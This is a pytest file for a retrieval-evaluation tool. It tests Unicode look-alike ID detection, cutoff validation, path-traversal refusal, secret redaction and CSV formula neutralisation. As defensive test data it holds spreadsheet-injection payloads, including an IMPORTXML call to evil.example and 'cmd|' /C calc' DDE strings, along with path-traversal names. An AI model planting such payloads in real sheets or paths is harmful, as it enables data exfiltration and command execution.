"""Issue 28, round three: look-alike IDs, strict measure cut-offs, invisible-only queries, version
folders that stay beside their benchmark, redaction through invisible characters, CSV sheets safe to
open, bounded counts and recordable names. Each test is one finding of the issue."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml
from conftest import CASES, DOCS, write_tiny
from pydantic import ValidationError
from typer.testing import CliRunner

from rageval.benchmark.loading import load_benchmark, validate_benchmark
from rageval.benchmark.lookalike import blank, collisions, lookalike_key, near_misses
from rageval.benchmark.notices import benchmark_warnings
from rageval.benchmark.querylog import WITHHELD, LogFields, log_name, read_log
from rageval.benchmark.redaction import Redactor, residual
from rageval.benchmark.schema import Case
from rageval.benchmark.versions import new_version
from rageval.cli.app import app
from rageval.config.schema import MAX_K, MAX_NAME, EvaluationConfig, RunConfig
from rageval.config.sweep import MAX_WORKERS, SweepConfig
from rageval.errors import BenchmarkError, MeasureError
from rageval.evaluation import parse_measure
from rageval.judging.pooling import pool
from rageval.judging.schema import SheetRow
from rageval.judging.sheets import import_sheets, read_pool, sheet_csv, write_pool

ZWSP, NBSP = "\u200b", "\u00a0"
NFC, NFD = "caf\u00e9", "cafe\u0301"  # the same word, two Unicode forms


def _docs(*ids: str) -> list[dict]:
    return [{"id": i, "title": f"T{n}", "text": f"text {n} about things"} for n, i in enumerate(ids)]


def _case(query_id: str, query: str = "a question", relevant=(), **extra) -> dict:
    return {
        "queryId": query_id,
        "query": query,
        "corpusVersion": "tiny-1",
        "relevant": [{"documentId": d, "grade": 2} for d in relevant],
        "split": "dev",
        **extra,
    }


def _document_benchmark(tmp_path: Path, docs: list[dict], cases: list[dict]) -> Path:
    return write_tiny(tmp_path / "b", documents=docs, cases=cases, spec_overrides={"relevanceUnit": "document"})


# --------------------------------------------------------------------------- look-alike IDs


@pytest.mark.parametrize(
    ("first", "second"), [(NFC, NFD), ("d1", "d1" + NBSP), ("d1", "d1" + ZWSP), ("d1", ZWSP + "d1"), ("d1", " d1")]
)
def test_two_document_ids_that_look_the_same_are_refused_with_both_lines(tmp_path, first, second):
    root = _document_benchmark(tmp_path, _docs(first, second), [_case("q1", relevant=[first])])
    benchmark, problems = validate_benchmark(root)
    assert benchmark is None
    [problem] = problems
    assert (problem.file, problem.line, problem.field) == ("documents.jsonl", 2, "id")
    assert ascii(second) in problem.message and "(line 1)" in problem.message
    assert "reads differently" in problem.fix


def test_a_judgment_naming_a_look_alike_of_a_document_says_which_one(tmp_path):
    root = _document_benchmark(tmp_path, _docs(NFC, "other"), [_case("q1", relevant=[NFD])])
    _, problems = validate_benchmark(root)
    [problem] = problems
    assert problem.field == "relevant[0].documentId" and problem.line == 1
    assert f"documents.jsonl has the look-alike {ascii(NFC)}" in problem.message
    assert problem.fix == "write the ID exactly as documents.jsonl does"


def test_look_alike_query_ids_and_ungranted_principal_groups_are_warnings(tmp_path):
    docs = [
        {"id": "a", "title": "A", "text": "editors only", "acl": ["editors"]},
        {"id": "b", "title": "B", "text": "security only", "acl": ["security"]},
        {"id": "c", "title": "C", "text": "public"},
    ]
    cases = [
        _case("q1", relevant=["a"], principal=["editor"]),  # misspelt: editors
        _case("q1" + ZWSP, relevant=["b"], principal=["Security"]),  # case
        _case("q2", relevant=["c"], principal=["security "]),  # trailing space
        _case("q3", relevant=["b"], principal=["security"]),  # granted: no warning
    ]
    root = _document_benchmark(tmp_path, docs, cases)
    benchmark = load_benchmark(root)  # warnings, not problems
    warnings = benchmark_warnings(benchmark)
    assert len(warnings) == 4, warnings
    assert warnings[0].startswith("warning: cases.jsonl: queryId: 1 group(s)") and "'q1' and 'q1\\u200b'" in warnings[0]
    assert "group 'editor' of case 'q1'" in warnings[1] and "did you mean 'editors'?" in warnings[1]
    assert "group 'Security'" in warnings[2] and "did you mean 'security'?" in warnings[2]
    assert "group 'security '" in warnings[3] and "did you mean 'security'?" in warnings[3]
    # `benchmark validate` prints them on stderr and still passes the benchmark
    result = CliRunner().invoke(app, ["benchmark", "validate", str(root)])
    assert result.exit_code == 0, result.output
    assert "no document grants the group 'editor'" in result.output
    # the conftest benchmark grants every group it names: no warning
    assert benchmark_warnings(load_benchmark(write_tiny(tmp_path / "clean", DOCS, CASES))) == []


def test_a_run_missing_the_qrels_only_by_look_alikes_is_told_so():
    qrels = {"q1": {NFC: 2, "d2": 1}, "q2": {"d3": 1}}
    run = {"q1": [NFD, "d2", "d9"], "q2" + ZWSP: ["d3" + NBSP], "q4": ["d3"]}
    found = near_misses(run, qrels)
    assert found.queries == (("q2" + ZWSP, "q2"),)
    assert found.documents == (("q1", NFD, NFC), ("q2" + ZWSP, "d3" + NBSP, "d3"))
    message = found.message()
    assert message.startswith("warning: 1 query ID(s) ('q2\\u200b' vs 'q2'); 2 retrieved ID(s)")
    assert "'cafe\\u0301' vs judged 'caf\\xe9'" in message and "write the run's IDs exactly" in message
    assert not near_misses({"q1": ["d2", "d9"]}, qrels) and near_misses({"q1": ["d2"]}, qrels).message() == ""


def test_rageval_metrics_warns_of_ids_that_match_only_once_normalised(tmp_path):
    (tmp_path / "qrels").write_text(f"q1 0 {NFC} 2\nq1 0 d2 1\n", encoding="utf-8")
    (tmp_path / "run").write_text(f"q1 Q0 {NFD} 1 2.0 t\nq1 Q0 d2 2 1.0 t\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["metrics", str(tmp_path / "qrels"), str(tmp_path / "run"), "-m", "R@10"])
    assert result.exit_code == 0
    assert "R@10" in result.stdout and "0.5000" in result.stdout  # compared as written: d2 only
    assert "warning: 1 retrieved ID(s)" in result.stderr and "vs judged 'caf\\xe9'" in result.stderr


def test_look_alike_keys():
    assert lookalike_key(NFD) == lookalike_key(NFC) == NFC
    assert lookalike_key(f" d1{ZWSP}{NBSP}") == "d1" and lookalike_key("D1") != lookalike_key("d1")
    assert collisions(["a", "b", "a", "a" + ZWSP, "b\u00ad"]) == [("a", "a" + ZWSP), ("b", "b\u00ad")]


@pytest.mark.parametrize("query", [ZWSP * 3, f"{ZWSP} {NBSP}\u2060\ufeff", "\u00ad"])
def test_a_query_of_invisible_characters_only_is_refused(tmp_path, query):
    assert blank(query)
    with pytest.raises(ValidationError, match="empty once its invisible characters are removed"):
        Case.model_validate(_case("q1", query=query))
    root = _document_benchmark(tmp_path, _docs("d1"), [_case("q1", query=query, relevant=["d1"])])
    _, problems = validate_benchmark(root)
    assert [(p.line, p.field) for p in problems] == [(1, "query")]
    assert not blank("a" + ZWSP)


# --------------------------------------------------------------------------- measures


@pytest.mark.parametrize(
    ("text", "value"), [("P@1.5", "1.5"), ("nDCG@1.5", "1.5"), ("P@0", "0"), ("RR@0", "0"), ("R@0.5", "0.5"),
                        ("P@1e3", "1000.0"), ("Hit@0", "0"), ("nDCG(cutoff=2.5)", "2.5")]
)  # fmt: skip
def test_a_cutoff_that_is_not_a_positive_integer_is_refused(text, value):
    with pytest.raises(MeasureError) as refused:
        parse_measure(text)
    [problem] = refused.value.problems
    assert problem.message == f"measure {text!r}: cutoff {value} is not a positive integer"
    assert problem.fix.startswith("write the cutoff as a positive integer, e.g. ")


def test_whole_cutoffs_and_grades_still_parse():
    assert [parse_measure(t).definition for t in ("P@10", "RR", "P(rel=2)@5", "MRR@3", "nDCG")] == [
        "P@10",
        "RR",
        "P(rel=2)@5",
        "RR@3",
        "nDCG",
    ]
    with pytest.raises(MeasureError, match="rel 0.5 is not an integer >= 0"):
        parse_measure("P(rel=0.5)@5")


def test_a_fractional_or_zero_cutoff_is_refused_in_a_params_file_and_on_the_cli(tmp_path):
    for text in ("P@1.5", "P@0"):
        with pytest.raises(ValidationError, match=re.escape(f"measure '{text}': cutoff")):
            EvaluationConfig.model_validate({"measures": ["nDCG@10", text]})
    (tmp_path / "qrels").write_text("q1 0 d1 1\n")
    (tmp_path / "run").write_text("q1 Q0 d1 1 1.0 r\n")
    for text in ("P@1.5", "P@0", "RR@0", "R@0.5"):
        result = CliRunner().invoke(app, ["metrics", str(tmp_path / "qrels"), str(tmp_path / "run"), "-m", text])
        assert result.exit_code != 0 and "is not a positive integer" in result.output, result.output
        assert "nan" not in result.output and "Traceback" not in result.output


# --------------------------------------------------------------------------- version folders


@pytest.mark.parametrize(
    ("name", "version", "field"),
    [("../../../x", "1.1.0", "name"), ("/tmp/abs-name", "1.1.0", "name"), ("tiny", "2/../../../../x", "version"),
     ("tiny", "..", "version"), ("a\\..\\..\\x", "2", "name")],
)  # fmt: skip
def test_a_new_version_is_never_written_outside_the_benchmarks_parent(tmp_path, name, version, field):
    root = write_tiny(tmp_path / "deep" / "er" / "tiny", spec_overrides={"name": name})
    before = sorted(p for p in tmp_path.rglob("*"))
    with pytest.raises(BenchmarkError) as refused:
        new_version(root, version)
    [problem] = refused.value.problems
    assert problem.field == field
    assert "path separator" in problem.message or "cannot be part of a folder name" in problem.message
    assert sorted(p for p in tmp_path.rglob("*")) == before  # nothing written anywhere
    assert not Path("/tmp/abs-name-v1.1.0").exists()
    result = CliRunner().invoke(app, ["benchmark", "new-version", str(root), "--version", version])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert sorted(p for p in tmp_path.rglob("*")) == before


def test_a_plain_new_version_still_goes_beside_the_benchmark(tmp_path):
    root = write_tiny(tmp_path / "tiny")
    assert new_version(root, "1.1.0") == tmp_path / "tiny-v1.1.0"


# --------------------------------------------------------------------------- redaction


def test_redaction_sees_through_invisible_characters_and_says_password_is():
    redact = Redactor()
    card = ZWSP.join(["4111", "1111", "1111", "1111"])
    key = "AKIA" + ZWSP + "IOSFODNN7EXAMPLE"
    cases = {
        f"refund card {card} please": ("refund card <CARD> please", {"card": 1}),
        f"revoke {key} now": ("revoke <SECRET> now", {"secret": 1}),
        "my password is hunter2": ("my password is <SECRET>", {"secret": 1}),
        "My Passcode was now 0000 sorry": ("My Passcode was now <SECRET> sorry", {"secret": 1}),
        f"mail jane{ZWSP}.doe@example.com": ("mail <EMAIL>", {"email": 1}),
        "what is a password": ("what is a password", {}),
    }
    for text, (expected, removed) in cases.items():
        result = redact(text)
        assert (result.text, dict(result.removed)) == (expected, removed), text
        assert residual(result.text) is None
    # What the detectors leave is still caught by the residual check, invisible characters or not.
    assert residual(ZWSP.join("4111111111111112")) == "digit-run"
    assert residual("the password is swordfish") == "secret-word"


def test_field_names_and_the_log_name_are_redacted_for_the_record(tmp_path):
    log = tmp_path / "export-jane.doe@example.com.jsonl"
    rows = [{"query": "reset", "time": "2026-11-01", "jane.doe@example.com": "x", "4111 1111 1111 1111": 1, "ua": "y"}]
    log.write_text("".join(json.dumps(r) + "\n" for r in rows))
    _, dropped = read_log(log, LogFields())
    assert dropped == ["<CARD>", "<EMAIL>", "ua"]
    assert "jane" not in log_name(log) and log_name(log).endswith("<EMAIL>")
    assert log_name(Path("logs") / "search.csv") == str(Path("logs") / "search.csv")
    assert log_name("k/8f3a9c2e7b1d4f6a0c5e9b2d7a4f1c3e.csv") == f"k/{WITHHELD}"


def test_a_sealed_import_record_holds_no_address_from_the_file_or_field_names(tmp_path, monkeypatch):
    from rageval.tracking.store import Tracker

    monkeypatch.chdir(tmp_path)
    policy = Path(__file__).resolve().parents[1] / "params" / "queries" / "policy.yaml"
    monkeypatch.setenv("RAGEVAL_QUERY_SALT", "test-salt-0123456789abcdef")
    log = tmp_path / "export-jane.doe@example.com.jsonl"
    import datetime as dt

    day = (dt.date.today() - dt.timedelta(days=3)).isoformat()
    rows = [{"query": "reset password", "time": day, "bob.smith@example.org": "x"}]
    log.write_text("".join(json.dumps(r) + "\n" for r in rows))
    store = f"sqlite:///{tmp_path / 'mlflow.db'}"
    args = ["queries", "import", str(log), "--policy", str(policy), "--out", str(tmp_path / "out")]
    result = CliRunner().invoke(app, [*args, "--tracking-uri", store], terminal_width=200)
    assert result.exit_code == 0, result.output
    run_id = re.search(r"import run (\w+)", result.output).group(1)
    info = Tracker(store).run(run_id)
    sealed = (Path(info.artifact_uri.removeprefix("file://")) / "import.json").read_text()
    record = json.loads(sealed)
    assert record["fields_dropped"] == ["<EMAIL>"] and record["log"]["file"].endswith("<EMAIL>")
    for value in ("jane.doe@example.com", "bob.smith@example.org"):
        assert value not in sealed and value.encode() not in (tmp_path / "mlflow.db").read_bytes()


# --------------------------------------------------------------------------- CSV sheets

FORMULAS = [
    '=IMPORTXML("http://evil.example/x","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "\r=1+1",
]


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_a_sheet_csv_neutralises_every_formula_cell():
    rows = [
        SheetRow(itemId=f"i{n}", queryId=f, query=f, title=f, text=f, rubric="0: no") for n, f in enumerate(FORMULAS)
    ]
    cells = _cells(sheet_csv(rows))
    live = [c for row in cells for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert live == []
    assert cells[0]["text"] == "'" + FORMULAS[0] and cells[2]["query"] == "'\t=1+1"
    assert cells[0]["grade"] == "" and cells[0]["itemId"] == "i0"
    numbers = _cells(sheet_csv([SheetRow(itemId="i", queryId="q", text="-0.25")]))
    assert numbers[0]["text"] == "-0.25"  # a number is a value, not a formula


def test_judge_pool_writes_a_safe_sheet_that_imports_back(tmp_path):
    docs = [{"id": f"d{n}", "title": f, "text": f} for n, f in enumerate(FORMULAS)]
    cases = [_case("=q1", query="@SUM(1+1)*cmd|' /C calc'!A0", relevant=[])]
    benchmark = load_benchmark(_document_benchmark(tmp_path, docs, cases))
    frame = pd.DataFrame(
        [("=q1", n + 1, f"d{n}#x-0", f"d{n}") for n in range(len(docs))],
        columns=["query_id", "rank", "chunk_id", "parent_id"],
    )
    paths = write_pool(pool({"run": frame}, benchmark, "dev", len(docs), seed=0), tmp_path / "pool")
    cells = _cells(paths["csv"].read_bytes())
    assert len(cells) == len(FORMULAS)
    live = [c for row in cells for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert live == []
    assert {row["queryId"] for row in cells} == {"'=q1"}
    # the JSONL sheet is not a spreadsheet: it keeps the text as written
    jsonl = [json.loads(line) for line in paths["jsonl"].read_text().splitlines()]
    assert {row["queryId"] for row in jsonl} == {"=q1"}
    # filled in (apostrophes kept, as a text editor leaves them), it imports with the IDs as written
    for row in cells:
        row.update(assessor="ann", grade="1")
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(cells[0]))
        writer.writeheader()
        writer.writerows(cells)
    labels = import_sheets(read_pool(tmp_path / "pool"), [filled])
    assert len(labels) == len(FORMULAS) and set(labels["query_id"]) == {"=q1"}


# --------------------------------------------------------------------------- bounds and names


def _run_config(**changes) -> dict:
    data = yaml.safe_load((Path(__file__).resolve().parents[1] / "params" / "bm25.yaml").read_text())
    data.update(changes)
    return data


def test_workers_are_bounded_with_the_limit_in_the_error():
    base = {"version": 1, "name": "s", "base": "b.yaml", "variants": [{"name": "a"}]}
    with pytest.raises(ValidationError, match=f"less than or equal to {MAX_WORKERS}"):
        SweepConfig.model_validate({**base, "workers": 1_000_000_000})
    assert SweepConfig.model_validate({**base, "workers": MAX_WORKERS}).workers == MAX_WORKERS


def test_final_k_and_depth_are_bounded():
    with pytest.raises(ValidationError, match=f"less than or equal to {MAX_K}"):
        RunConfig.model_validate(_run_config(final_k=10**9))
    evaluation = {**_run_config()["evaluation"], "depth": 10**9}
    with pytest.raises(ValidationError, match=f"less than or equal to {MAX_K}"):
        RunConfig.model_validate(_run_config(evaluation=evaluation))
    assert RunConfig.model_validate(_run_config(final_k=MAX_K)).final_k == MAX_K


@pytest.mark.parametrize(
    ("name", "message"),
    [("a/b", "path separator"), ("..", "path separator"), ("bm25\x1b[31m", "control"), ("bm25" + ZWSP, "invisible"),
     (" bm25", "surrounding whitespace"), ("x" * (MAX_NAME + 1), f"more than {MAX_NAME}")],
)  # fmt: skip
def test_a_name_that_cannot_be_recorded_is_refused_before_a_run(name, message):
    with pytest.raises(ValidationError, match=re.escape(message)):
        RunConfig.model_validate(_run_config(name=name))
    base = {"version": 1, "name": "s", "base": "b.yaml"}
    with pytest.raises(ValidationError, match=re.escape(message)):
        SweepConfig.model_validate({**base, "variants": [{"name": name}]})
    with pytest.raises(ValidationError, match=re.escape(message)):
        SweepConfig.model_validate({**base, "name": name, "variants": [{"name": "a"}]})
    assert RunConfig.model_validate(_run_config(name="bm25-k1=1.2,b=0.75 (v2)")).name == "bm25-k1=1.2,b=0.75 (v2)"


@pytest.mark.parametrize(
    "url",
    ["https://me:hunter2@search.example/q", "https://search.example/q?api_key=hunter2",
     "http://127.0.0.1:8000/search?lang=en&Token=hunter2", "https://s.example/q?X-Amz-Signature=hunter2"],
)  # fmt: skip
def test_credentials_in_an_http_stage_url_are_refused_with_the_fix(url):
    from rageval.retrieval.schema import HttpConfig

    with pytest.raises(ValidationError, match="carries credentials") as refused:
        HttpConfig.model_validate({"type": "http", "url": url})
    errors = refused.value.errors(include_input=False, include_url=False)
    assert "headers_from_env" in errors[0]["msg"] and "hunter2" not in errors[0]["msg"]
    assert HttpConfig.model_validate({"type": "http", "url": "http://127.0.0.1:8000/search?lang=en"}).url
